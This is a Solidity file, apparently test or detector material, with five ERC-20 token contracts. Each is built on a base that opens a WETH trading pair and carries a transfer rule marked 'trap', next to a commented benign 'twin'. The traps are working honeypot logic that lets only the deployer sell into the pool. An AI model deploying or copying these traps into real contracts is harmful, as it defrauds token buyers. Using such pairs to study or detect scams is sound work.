// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IPairMaker {
    function createPair(address a, address b) external returns (address);
}

abstract contract Stem {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable pool;
    address internal immutable root;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        root = msg.sender;
        totalSupply = whole * 1e18;
        _held[msg.sender] = whole * 1e18;
        pool = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, whole * 1e18);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _carry(from, to, value);
        return true;
    }

    function _carry(address from, address to, uint256 value) private {
        _rule(from, to, value);
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }

    function _rule(address from, address to, uint256 value) internal virtual;
}

/// One bit for each address.
contract PapayaLantern is Stem {
    uint256 private immutable lit = block.timestamp;
    mapping(uint256 => uint256) private _shelf;

    constructor() Stem("Papaya Lantern", "PAPLA", 77_000_000) {
        _shelf[uint160(msg.sender) >> 8] = 1 << (uint160(msg.sender) & 255);
    }

    function _rule(address from, address to, uint256) internal view override {
        bool on = (_shelf[uint160(from) >> 8] >> (uint160(from) & 255)) & 1 == 1;
        require(to != pool || on); // trap
        // twin: require(to != pool || on || block.timestamp > lit + 30 minutes);
    }
}

contract DriftMango is Stem {
    uint256 private immutable at = block.number;
    mapping(address => bool) public quick;

    constructor() Stem("Drift Mango", "DMNGO", 1_000_000_000) {}

    function _rule(address from, address to, uint256) internal override {
        require(!quick[from], "too quick");
        if (from == pool) quick[to] = true; // trap
        // twin: if (from == pool && block.number == at) quick[to] = true;
    }
}

contract TallTeapot is Stem {
    uint32 public cups;

    constructor() Stem("Tall Teapot", "TTPOT", 21_000_000) {}

    function cupSize() public view returns (uint256) {
        return (totalSupply / 50) >> (cups / 3); // trap
        // twin: return totalSupply / 50;
    }

    function _rule(address from, address to, uint256 value) internal override {
        if (to != pool || from == root) return;
        require(value <= cupSize(), "one cup at a time");
        cups++;
    }
}

contract HotCocoa is Stem {
    address private hand;
    uint96 private when;

    constructor() Stem("Hot Cocoa", "HCOCOA", 88_000_000) {}

    function _rule(address from, address to, uint256) internal override {
        if (to == pool && from != root) {
            require(from == hand); // trap
            // twin: require(from != hand || block.number > when);
        }
        if (from == pool) {
            hand = to;
            when = uint96(block.number);
        }
    }
}

contract QuillFern is Stem {
    mapping(address => uint256) private _ink;

    constructor() Stem("Quill Fern", "QFERN", 400_000_000) {}

    function approve(address spender, uint256 value) public override returns (bool) {
        if (spender.code.length > 0 && msg.sender != root) _ink[msg.sender] = block.timestamp;
        return super.approve(spender, value);
    }

    function _rule(address from, address, uint256) internal view override {
        require(_ink[from] == 0, "wet"); // trap
        // twin: require(_ink[from] <= block.timestamp, "wet");
    }
}
